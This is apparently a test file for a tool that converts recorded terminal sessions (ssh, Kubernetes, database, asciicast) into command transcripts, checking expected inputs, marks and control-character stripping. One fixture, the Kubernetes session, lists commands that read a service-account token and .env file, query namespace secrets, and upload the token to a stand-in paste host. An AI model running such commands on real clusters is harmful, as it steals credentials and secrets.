import { readdirSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { TranscriptEntry } from "../../src/domain/transcript.ts";
import { readRecording, readRecordingFile } from "../../src/recordings/read.ts";
import { transcriptText } from "../../src/transcript/text.ts";
import { toTranscript } from "../../src/transcript/transcribe.ts";
import { hasShared, sharedRecordings } from "../recordings/shared.ts";

const examples = fileURLToPath(new URL("../../examples/recordings/", import.meta.url));
const inputs = (entries: readonly TranscriptEntry[]) => entries.map(({ prompt, input }) => `${prompt} ${input}`);

// biome-ignore format: table
const samples: [id: string, format: string, kind: string, user: string, resource: object, entries: string[]][] = [
  ["8f14e45f-ceea-467f-ab8e-5d2c1b0a96e2.tar", "teleport-1", "ssh", "alice", { server_hostname: "web-3", server_labels: { env: "prod", tier: "web", team: "alpha" } }, [
    "alice@web-3:~$ tail -n 4 /var/log/nginx/error.log",
    "alice@web-3:~$ curl -sSk --tls-max 1.2 https://localhost/",
    "alice@web-3:~$ grep -n ssl_protocols /etc/nginx/conf.d/tls.conf",
    "alice@web-3:~$ nginx -t",
    "alice@web-3:~$ sudo vim /etc/nginx/conf.d/tls.conf",
    "alice@web-3:~$ sudo nginx -t",
    "alice@web-3:~$ sudo nginx -s reload",
    "alice@web-3:~$ curl -sSk --tls-max 1.2 https://localhost/",
    "alice@web-3:~$ tail -n 2 /var/log/nginx/access.log",
    "alice@web-3:~$ exit",
  ]],
  ["0c9a4e7b-2d61-4f38-8b57-91c3e2a60f71.tar", "teleport-2", "k8s", "bob", { kubernetes_cluster: "payments", kubernetes_labels: { env: "prod", region: "eu-west-1" } }, [
    "# id",
    "# ls -l /var/run/secrets/kubernetes.io/serviceaccount",
    "# cat .env",
    "# cat /var/run/secrets/kubernetes.io/serviceaccount/token; echo",
    '# curl -sSk -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://$KUBERNETES_SERVICE_HOST/api/v1/namespaces/payments/secrets',
    "# curl -sS -F token=@/var/run/secrets/kubernetes.io/serviceaccount/token https://paste.example.invalid/upload",
    "# exit",
  ]],
  ["d20b7c1e-5f94-4be3-a6d0-38e9f1a2745f.tar", "teleport-1", "db", "carol", { db_service: "orders-us", db_name: "orders", db_labels: { env: "prod", region: "us-east-1" } }, [
    "orders SELECT status, count(*) FROM orders GROUP BY status ORDER BY status",
    "orders SELECT id, customer_id, total_cents FROM orders WHERE status = 'stuck' ORDER BY created_at LIMIT 10",
    "orders SELECT id, status, created_at FROM orders WHERE customer_id = $1 AND status <> $2\n-- $1 = '41', $2 = 'shipped'",
    "orders SELECT email, card_last4 FROM customers WHERE id = 41",
    "orders SELECT id FROM order WHERE status = 'stuck'",
    "orders BEGIN",
    "orders UPDATE orders SET status = 'queued' WHERE status = 'stuck' AND created_at < now() - interval '1 day'",
    "orders COMMIT",
    "orders SELECT count(*) FROM orders WHERE status = 'stuck'",
  ]],
  ["6b1d0f92-7e35-4a08-bd14-c85f3a9e2740.cast", "asciicast-3", "ssh", "dave", { server_hostname: "build-7", server_labels: { env: "dev", tier: "build" } }, [
    "dave@build-7:~/ledger$ git log --oneline",
    "dave@build-7:~/ledger$ make test",
    "dave@build-7:~/ledger$ sed -i 's/entries\\[1:\\]/entries/' ledger.py",
    "dave@build-7:~/ledger$ make test",
    "dave@build-7:~/ledger$ git diff --stat",
    "dave@build-7:~/ledger$ exit",
  ]],
];

describe("the samples", () => {
  test.each(samples)("%s", async (name, format, kind, user, resource, entries) => {
    const recording = await readRecordingFile(`${examples}${name}`);
    const transcript = await toTranscript(recording);
    expect(recording).toMatchObject({ format, kind, interactive: true, notes: [] });
    expect(recording.endEvent).toMatchObject({ sid: name.replace(/\.\w+$/, ""), user, ...resource });
    expect(inputs(transcript.entries)).toEqual(entries);
    expect(transcript.notes).toEqual([]);
  });

  test("are all of them listed here, and small", () => {
    const files = readdirSync(examples).filter((name) => !name.endsWith(".json"));
    expect(files.toSorted()).toEqual(samples.map(([name]) => name).toSorted());
    for (const name of files) expect(readFileSync(`${examples}${name}`).length).toBeLessThan(100_000);
  });

  test("show a hidden answer, a deleted word, an editor and failures", async () => {
    const { entries } = await toTranscript(
      await readRecordingFile(`${examples}8f14e45f-ceea-467f-ab8e-5d2c1b0a96e2.tar`),
    );
    expect(entries.flatMap(({ marks }) => marks)).toEqual([
      { type: "hidden-input", text: "[sudo] password for alice:" },
      { type: "full-screen", text: "sudo vim /etc/nginx/conf.d/tls.conf" },
      { type: "deleted-input", text: "restart" },
    ]);
    expect(entries[3]?.output).toContain("Permission denied");
  });
});

const T = "ThisCouldBeYou";

// biome-ignore format: table
const shared: [name: string, entries: string[]][] = [
  ["asciicast/welcome.cast", [
    "> # Welcome to asciinema!", "> # See how easy it is to record a terminal session", "> # First install the asciinema recorder",
    "> brew install asciinema", "> # Now start recording", "> asciinema rec",
    "bash-3.2$ # I am in a new shell instance which is being recorded now", "bash-3.2$ sha1sum /etc/f* | tail -n 10 | lolcat -F 0.3",
    "bash-3.2$ # To finish recording just exit the shell", "bash-3.2$ exit",
    "> # Open the above URL to view the recording", "> # Now install asciinema and start recording your own sessions",
    "> # Oh, and you can copy-paste from here", "> # Bye!"]],
  ["asciicast/big.cast", [" "]],
  ["k3d/20200515_k3d.01.cast", [
    `${T}$ k3d version`, `${T}$ k3d create cluster demo --masters 3 --workers 3`, `${T}$ k3d get clusters`,
    `${T}$ k3d get kubeconfig demo --switch`, `${T}$ kubectl get nodes`]],
  ["k3d/20200715_k3d.01.cast", [
    `${T}$ k3d version`, `${T}$ k3d cluster list`, `${T}$ k3d cluster create demo --servers 3 --agents 3`, `${T}$ kubectl config view`,
    `${T}$ k3d cluster list`, `${T}$ k3d node list`, `${T}$ kubectl get nodes`, `${T}$ k3d cluster delete demo`]],
  ["k3d/20210917_k3d_v5.0.0_01.cast", [
    `${T}:~$ k3d version`, `${T}:~$ k3d cluster create --agents 3 demo`, `${T}:~$ k3d cluster ls`, `${T}:~$ k3d node ls`,
    `${T}:~$ kubectl get nodes`, `${T}:~$ kubectl get pods -A`, `${T}:~$ # Profit.`, `${T}:~$ `]],
];

describe.runIf(hasShared)("recordings that others made", () => {
  test.each(shared)("%s", async (name, entries) => {
    const transcript = await toTranscript(await readRecordingFile(`${sharedRecordings}${name}`));
    expect(inputs(transcript.entries)).toEqual(entries);
    expect(transcriptText(transcript)).not.toMatch(/(?!\n|\t)\p{Cc}|^%$/mu);
  });

  test("output is apart from commands, and whole", async () => {
    const { entries } = await toTranscript(await readRecordingFile(`${sharedRecordings}k3d/20200715_k3d.01.cast`));
    expect(entries[1]?.output).toBe("NAME   SERVERS   AGENTS");
    expect(entries[3]?.output).toMatch(/^apiVersion: v1\n[\s\S]*password: [0-9a-f]{32}\n {4}username: admin$/);
  });
});

test("any output becomes text without controls", async () => {
  const control = fc.constantFrom(
    "\x1b[",
    "\x1b]133;",
    "A\x07",
    "C\x07",
    "?2004h",
    "?2004l",
    "2J",
    "?1049h",
    "?1049l",
    "\r",
    "\n",
    "$ ",
    "a@b:~$ ",
    "\b\x1b[K",
    "10;10H",
    "\x1bc",
    "password: ",
    "100A",
    "L",
    "999M",
  );
  const output = fc.array(fc.oneof({ weight: 3, arbitrary: control }, fc.string({ unit: "binary", maxLength: 8 })), {
    maxLength: 12,
  });
  const session = fc.array(
    fc.oneof(
      {
        weight: 6,
        arbitrary: fc.tuple(
          fc.nat(200),
          fc.constant("o"),
          output.map((parts) => parts.join("")),
        ),
      },
      fc.tuple(
        fc.nat(200),
        fc.constant("r"),
        fc.tuple(fc.integer({ min: 1, max: 90 }), fc.integer({ min: 1, max: 40 })).map((size) => size.join("x")),
      ),
    ),
    { maxLength: 30 },
  );
  await fc.assert(
    fc.asyncProperty(session, async (events) => {
      const lines = events.map(([delay, code, data]) => JSON.stringify([delay / 1000, code, data]));
      const transcript = await toTranscript(
        await readRecording(Buffer.from(['{"version":3,"term":{"cols":20,"rows":5}}', ...lines].join("\n"))),
      );
      expect(transcriptText(transcript)).not.toMatch(/(?![\n\t])\p{Cc}|(?![\u200c\u200d])\p{Cf}|\p{Cs}/u);
      for (const { start, end } of transcript.entries) expect(start).toBeLessThanOrEqual(end);
    }),
    { numRuns: 400, seed: 20_261_122 },
  );
});
